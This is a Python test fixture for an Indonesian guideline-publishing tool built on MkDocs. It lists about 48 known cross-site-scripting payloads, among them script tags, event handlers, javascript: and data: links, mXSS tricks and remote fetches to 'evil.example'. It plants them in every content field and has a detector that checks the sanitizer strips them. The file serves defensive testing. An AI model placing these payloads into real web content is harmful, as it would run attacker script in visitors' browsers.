"""Known XSS vectors and a project that carries each of them in every text field an editor writes.

Shared by tests/unit/test_untrusted.py (the source check reports each at its line and column),
tests/unit/test_sanitize.py (with the check bypassed, nothing live reaches the site, the search
index or the PDF HTML) and tests/browser/test_untrusted_browser.py (nothing runs in Chromium).
Each vector sets `window.__xss` or fetches from `evil.example` if it ever runs.
"""

from __future__ import annotations

import contextlib
import json
from dataclasses import dataclass
from pathlib import Path

from tests.conftest import Project


@dataclass(frozen=True)
class Vector:
    name: str
    text: str
    token: str  # where the first error in the field must point
    code: str  # the expected error code


def _v(name: str, text: str, token: str, code: str = "raw-html") -> Vector:
    assert token in text, (name, token)
    return Vector(name, text, token, code)


VECTORS = [
    _v("script", "<script>window.__xss=1</script>", "<script"),
    _v("img-onerror", '<img src=x onerror="window.__xss=2">', "<img"),
    _v("svg-onload", '<svg onload="window.__xss=3">', "<svg"),
    _v("svg-script", "<svg><script>window.__xss=4</script></svg>", "<svg"),
    _v("iframe-javascript", '<iframe src="javascript:parent.__xss=5"></iframe>', "<iframe"),
    _v("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;parent.__xss=6&lt;/script&gt;"></iframe>', "<iframe"),
    _v("object", '<object data="javascript:window.__xss=7"></object>', "<object"),
    _v("embed", '<embed src="javascript:window.__xss=8">', "<embed"),
    _v("details-ontoggle", '<details open ontoggle="window.__xss=9">x</details>', "<details"),
    _v("body-onload", '<body onload="window.__xss=10">', "<body"),
    _v("input-onfocus", '<input autofocus onfocus="window.__xss=11">', "<input"),
    _v("video-source-onerror", '<video><source onerror="window.__xss=12"></video>', "<video"),
    _v("audio-onerror", '<audio src=x onerror="window.__xss=13"></audio>', "<audio"),
    _v(
        "math-mxss",
        '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=14"></style></mglyph></table></mtext></math>',
        "<math",
    ),
    _v("a-javascript", '<a href="javascript:window.__xss=15">klik</a>', "<a"),
    _v("markdown-link-javascript", "[klik](javascript:window.__xss=16)", "javascript:", "unsafe-url"),
    _v("markdown-link-mixed-case", "[klik](JaVaScRiPt:window.__xss=17)", "JaVaScRiPt:", "unsafe-url"),
    _v("markdown-link-entity-tab", "[klik](java&#x09;script:window.__xss=18)", "java&#x09;script:", "unsafe-url"),
    _v("markdown-image-javascript", "![gambar](javascript:window.__xss=19)", "javascript:", "unsafe-url"),
    _v("markdown-reference-javascript", "[klik][x]\n\n[x]: javascript:window.__xss=20", "javascript:", "unsafe-url"),
    _v("autolink-javascript", "<javascript:window.__xss=21>", "javascript:", "unsafe-url"),
    _v(
        "markdown-link-data",
        "[klik](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MjI8L3NjcmlwdD4=)",
        "data:",
        "unsafe-url",
    ),
    _v("markdown-link-vbscript", "[klik](vbscript:msgbox(23))", "vbscript:", "unsafe-url"),
    _v("attr-list-onclick", '**tebal**{: onclick="window.__xss=24" }', "onclick", "attribute-list"),
    _v("attr-list-style", 'teks {: style="background:url(https://evil.example/25.png)" }', "style", "attribute-list"),
    _v(
        "attr-list-on-link",
        '[tautan](https://example.org){: onmouseover="window.__xss=26" }',
        "onmouseover",
        "attribute-list",
    ),
    _v("base-href", '<base href="https://evil.example/">', "<base"),
    _v("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">', "<meta"),
    _v("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">', "<link"),
    _v("style-import", '<style>@import "https://evil.example/x.css";</style>', "<style"),
    _v("form-action", '<form action="https://evil.example/"><button>kirim</button></form>', "<form"),
    _v("style-attribute", '<div style="background:url(https://evil.example/31.png)">x</div>', "<div"),
    _v(
        "abbr-onmouseover",
        '<abbr title="x" onmouseover="window.__xss=32">STR</abbr>',
        "onmouseover",
        "raw-html-attribute",
    ),
    _v("img-remote", '<img src="https://evil.example/33.png">', "<img"),
    _v("attribute-breakout", 'x"><script>window.__xss=34</script>', "<script"),
    _v("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=window.__xss=35>">', "<noscript"),
    _v("comment-trick", '<!--><img src=x onerror="window.__xss=36">-->', "<!--"),
    _v("a-entity-javascript", '<a href="&#106;avascript:window.__xss=37">x</a>', "<a"),
    _v("svg-xlink", '<svg><a xlink:href="javascript:window.__xss=38"><text x="20" y="20">x</text></a></svg>', "<svg"),
    _v("title-breakout", "</title><script>window.__xss=39</script>", "</title"),
    _v("escaped-backticks", "\\`<img src=x onerror=window.__xss=40>\\`", "<img"),
    _v("kbd-style", '<kbd style="background:url(https://evil.example/41.png)">x</kbd>', "style", "raw-html-attribute"),
    _v("select-onfocus", '<select autofocus onfocus="window.__xss=42"></select>', "<select"),
    _v("attr-list-theme-id", "Judul { #__config .md-typeset }", "#__config", "attribute-list"),
    _v("markdown-link-angle-javascript", "[klik](<javascript:window.__xss=44>)", "javascript:", "unsafe-url"),
    _v("marquee-onstart", '<marquee onstart="window.__xss=45">x</marquee>', "<marquee"),
    _v("entity-encoded-tag", "&lt;img src=x onerror=window.__xss=46&gt;", "&lt;"),
    _v("decimal-entity-tag", "&#60;svg onload=window.__xss=47&#62;", "&#60;"),
]

# Field → how it appears in the guideline front matter (`{v}` is the JSON-quoted vector).
GUIDELINE_FIELDS = {
    "judul": "judul: {v}",
    "ringkasan": "ringkasan: {v}",
    "rekomendasi.teks": "    teks: {v}",
    "langkah.teks": "    teks: {v}",
    "tugas.nama": "    nama: {v}",
    "rujukan.kapan": "    kapan: {v}",
    "catatan_lokal.wilayah": "  - wilayah: {v}",
    "catatan_lokal.teks": "    teks: {v}",
    "sumber": "  - {v}",
    "riwayat.perubahan": "    perubahan: {v}",
    "riwayat.alasan": "    alasan: {v}",
}
TERM_FIELDS = {
    "istilah": "istilah: {v}",
    "definisi": "definisi: {v}",
    "alias": "alias: [{v}]",
    "inggris": "inggris: {v}",
}

GUIDELINE_TEMPLATE = """\
---
id: {id}
judul: {judul}
ringkasan: {ringkasan}
topik: etika-klien
peran: [pekerja-sosial, pendamping]
status: berlaku
versi: "1.0"
berlaku_sejak: 2026-12-01
tinjau_ulang: 2027-12-01
rekomendasi:
  - id: R1
    kekuatan: dianjurkan
    teks: {rekomendasi.teks}
langkah:
  - peran: pendamping
    teks: {langkah.teks}
  - peran: pekerja-sosial
    teks: Periksa catatan setiap bulan.
tugas:
  - id: tugas-{id}
    nama: {tugas.nama}
    pelaksana: [pendamping]
    penanggung_jawab: pekerja-sosial
rujukan:
  - dari: pendamping
    ke: slrt
    jenis: rujuk
    kapan: {rujukan.kapan}
catatan_lokal:
  - wilayah: {catatan_lokal.wilayah}
    teks: {catatan_lokal.teks}
sumber:
  - {sumber}
riwayat:
  - versi: "1.0"
    tanggal: 2026-12-01
    perubahan: {riwayat.perubahan}
    alasan: {riwayat.alasan}
---
## Isi

Paragraf biasa sebelum vektor.

{body}

Paragraf penutup.
"""

TERM_TEMPLATE = """\
istilah: {istilah}
definisi: {definisi}
alias: [{alias}]
inggris: {inggris}
"""


@dataclass(frozen=True)
class Site:
    """Where each vector was put: (relative file, field) for every vector index."""

    guidelines: dict[int, str]
    terms: dict[int, str]


def quoted(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)  # a valid YAML double-quoted scalar


def write_vectors(project: Project, vectors: list[Vector] = VECTORS) -> Site:
    """One guideline and one glossary term per vector, the vector in every text field."""
    guidelines, terms = {}, {}
    for i, vector in enumerate(vectors):
        gid = f"vektor-{i:02d}"
        values = {field: quoted(f"{i:02d} {vector.text}") for field in GUIDELINE_FIELDS}
        text = _fill(GUIDELINE_TEMPLATE, id=gid, body=vector.text, **values)
        rel = f"guidelines/etika-klien/{gid}.md"
        project.write(rel, text)
        guidelines[i] = rel
        term_values = {field: quoted(f"Istilah {i:02d} {vector.text}") for field in TERM_FIELDS}
        term_rel = f"glossary/vektor-{i:02d}.yaml"
        project.write(term_rel, _fill(TERM_TEMPLATE, **term_values))
        terms[i] = term_rel
    return Site(guidelines, terms)


def _fill(template: str, **values: str) -> str:
    out = template
    for key, value in values.items():
        out = out.replace("{" + key + "}", value)
    return out


MKDOCS_YML = """\
site_name: Uji
docs_dir: docs
theme:
  name: material
  custom_dir: {overrides}
  language: id
  font: false
  features: [navigation.prune, navigation.footer, content.tooltips, search.highlight]
plugins:
  - search
  - panduan
markdown_extensions: [abbr, admonition, attr_list, md_in_html, def_list, tables, toc, pymdownx.details, pymdownx.superfences, pymdownx.tasklist]
"""


def build_unchecked(project: Project, site_dir, *, staged: bool = False) -> None:
    """Build the project's site with the source check for untrusted content switched off, so that
    only the sanitizer and the Content-Security-Policy stand between the vectors and a reader.
    `staged`: as `panduan build` builds, into a staging folder whose pages are sanitized last."""
    import pytest
    from mkdocs.commands.build import build
    from mkdocs.config import load_config

    from panduan import checks
    from panduan.plugin import staged as staged_build
    from panduan.untrusted import check_untrusted
    from tests.conftest import REPO

    if not (project.root / "mkdocs.yml").exists():
        project.write("mkdocs.yml", MKDOCS_YML.format(overrides=REPO / "overrides"))
        (project.root / "docs").mkdir(exist_ok=True)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(checks, "RULES", [rule for rule in checks.RULES if rule is not check_untrusted])
        patch.setattr("panduan.build.check_links", lambda *args, **kwargs: [])  # it refuses `javascript:` too
        config = load_config(str(project.root / "mkdocs.yml"), strict=False, site_dir=str(site_dir))
        config.plugins.on_startup(command="build", dirty=False)
        try:
            with staged_build(Path(site_dir)) if staged else contextlib.nullcontext():
                build(config)
        finally:
            config.plugins.on_shutdown()


def unchecked_result(project: Project):
    """The BuildResult of the project with the untrusted-content check switched off."""
    import pytest

    from panduan import checks
    from panduan.build import build_guide
    from panduan.untrusted import check_untrusted

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(checks, "RULES", [rule for rule in checks.RULES if rule is not check_untrusted])
        patch.setattr("panduan.build.check_links", lambda *args, **kwargs: [])  # it refuses `javascript:` too
        return build_guide(project.root)


_BANNED = {
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "math",
    "template",
    "noscript",
    "marquee",
    "video",
    "audio",
    "source",
    "select",
    "textarea",
}
_FETCHING = {
    "img",
    "link",
    "script",
    "iframe",
    "embed",
    "object",
    "source",
    "video",
    "audio",
    "input",
    "track",
    "image",
    "use",
}


def live_markup(document: str, *, pdf: bool = False) -> list[str]:
    """Everything in an HTML document that could run script, fetch from elsewhere or redirect.

    Independent of nh3: Python's HTML parser, entity-decoded attribute values, and rules that
    name what a reader's browser (or WeasyPrint) would act on.
    """
    import re
    from html.parser import HTMLParser
    from urllib.parse import urlsplit

    problems: list[str] = []

    def scheme(value: str) -> str:
        cleaned = re.sub(r"[\x00-\x20\x7f]+", "", value).lower()
        return urlsplit(cleaned).scheme if ":" in cleaned else ""

    class Finder(HTMLParser):
        def __init__(self) -> None:
            super().__init__(convert_charrefs=True)
            self.in_head = False
            self.styles = 0
            self.stack: list[str] = []

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            values = {name: value or "" for name, value in attrs}
            where = f"<{tag} {' '.join(f'{k}={v!r}' for k, v in values.items())[:160]}>"
            if tag == "head":
                self.in_head = True
            if tag == "body":
                self.in_head = False
            if tag in _BANNED:
                problems.append(f"banned element {where}")
            if tag == "style":
                self.styles += 1
                if not (pdf and self.in_head and self.styles == 1):
                    problems.append(f"style element {where}")
            if tag == "meta" and "http-equiv" in values and values["http-equiv"].lower() != "content-security-policy":
                problems.append(f"meta http-equiv {where}")
            if tag == "link" and not (self.in_head and not scheme(values.get("href", ""))):
                problems.append(f"link {where}")
            if tag == "form" and ("action" in values or "method" in values):
                problems.append(f"form with action {where}")
            if tag == "script":
                src = values.get("src")
                if src is not None and (scheme(src) or src.startswith("//") or not src.split("?")[0].endswith(".js")):
                    problems.append(f"foreign script {where}")
                self.stack.append("script")
            for name, value in values.items():
                if name.startswith("on"):
                    problems.append(f"event handler {name} on {where}")
                if name in (
                    "style",
                    "srcdoc",
                    "formaction",
                    "action",
                    "background",
                    "xlink:href",
                    "poster",
                    "dynsrc",
                    "lowsrc",
                ) and not (name == "action" and tag == "form"):
                    problems.append(f"attribute {name} on {where}")
                if name in ("href", "src", "data", "cite"):
                    s = scheme(value)
                    if s in ("javascript", "vbscript", "file") or (
                        s == "data" and not (pdf and tag == "img" and value.startswith("data:image/"))
                    ):
                        problems.append(f"{s}: URL in {where}")
                    if tag in _FETCHING and (s in ("http", "https") or value.startswith("//")):
                        problems.append(f"remote fetch {where}")
                if name == "id" and value == "__config" and tag != "script":
                    problems.append(f"theme id on {where}")

        def handle_endtag(self, tag: str) -> None:
            if tag == "head":
                self.in_head = False
            if tag == "script" and self.stack:
                self.stack.pop()

        def handle_data(self, data: str) -> None:
            if self.stack and ("__xss" in data or "evil" in data):
                problems.append(f"script text from a source: {data[:80]!r}")

    Finder().feed(document)
    return problems
